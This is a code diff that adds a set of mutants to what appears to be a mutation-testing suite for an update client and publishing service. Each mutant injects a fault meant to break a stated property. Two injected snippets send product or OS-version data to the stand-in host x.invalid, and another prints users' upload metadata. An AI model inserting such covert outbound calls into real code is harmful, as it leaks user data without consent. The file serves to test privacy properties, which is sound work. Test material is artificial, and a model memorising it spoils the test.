@@ -440,6 +440,66 @@ _IN_CLIENT = (
     ),
 )
 
+_WAITING_ELSEWHERE = tuple(
+    Mutant(name, breaks, place, (change,), "conditional", "client" if "client" in place else "publishing")
+    for name, breaks, place, change in (
+        (
+            "has publishing tell another host of products with many channels",
+            "P3",
+            "comet_updates.formats.atom.product",
+            Before("if len($1) > 20: import urllib.request; urllib.request.urlopen('https://x.invalid/' + str($1))"),
+        ),
+        (
+            "has publishing print the user's name that a tool adds to an upload",
+            "P1 P3",
+            "comet_updates.publish.bucket.Bucket.get",
+            Instead(
+                "_body(found, stored.etag, stored.size_bytes)",
+                "(found['Metadata'] and print(found['Metadata']), _body(found, stored.etag, stored.size_bytes))[1]",
+            ),
+        ),
+        (
+            "has the client tell another host of systems without a file",
+            "P3 P8",
+            "comet_updates_client.choose.choose",
+            Before(
+                "if not $1.artifacts: import http.client; "
+                "http.client.HTTPSConnection('x.invalid').request('GET', '/' + $3.os_version)"
+            ),
+        ),
+        (
+            "has the client on Windows write the host with capitals",
+            "P8",
+            "comet_updates_client.request._get",
+            Before("import sys; $1 = $1._replace(host=$1.host.title()) if sys.platform == 'win32' else $1"),
+        ),
+        (
+            "has the client resume a download at a byte that depends on its user",
+            "P8",
+            "comet_updates_client.download._fill",
+            Instead(
+                "part.seek(0, SEEK_END)",
+                "max(0, part.seek(0, SEEK_END) - len(str(__import__('pathlib').Path.home())))",
+            ),
+        ),
+        (
+            "has the client ask in a second that depends on its group",
+            "P8",
+            "comet_updates_client.state.State.is_due",
+            Instead("self.next_check is None", "self.next_check is None or now.second == self.group"),
+        ),
+        (
+            "has the client resume the session of its last connection",
+            "P8",
+            CLIENT_SENT,
+            Instead(
+                "server_hostname=address.host",
+                "server_hostname=address.host, session=globals().get('LAST')",
+            ),
+        ),
+    )
+)
+
 ALL = (
     *_rows("ways out", "sends {what} {how}", WAYS_OUT, "P3"),
     *_rows("state", "keeps {what} {how}", KEEPS),
@@ -457,4 +517,5 @@ ALL = (
         for mutant in _rows("publishing", "has publishing send {what} {how}", TO_PUBLISH, sources=UPLOADERS)
     ),
     *_IN_CLIENT,
+    *_WAITING_ELSEWHERE,
 )
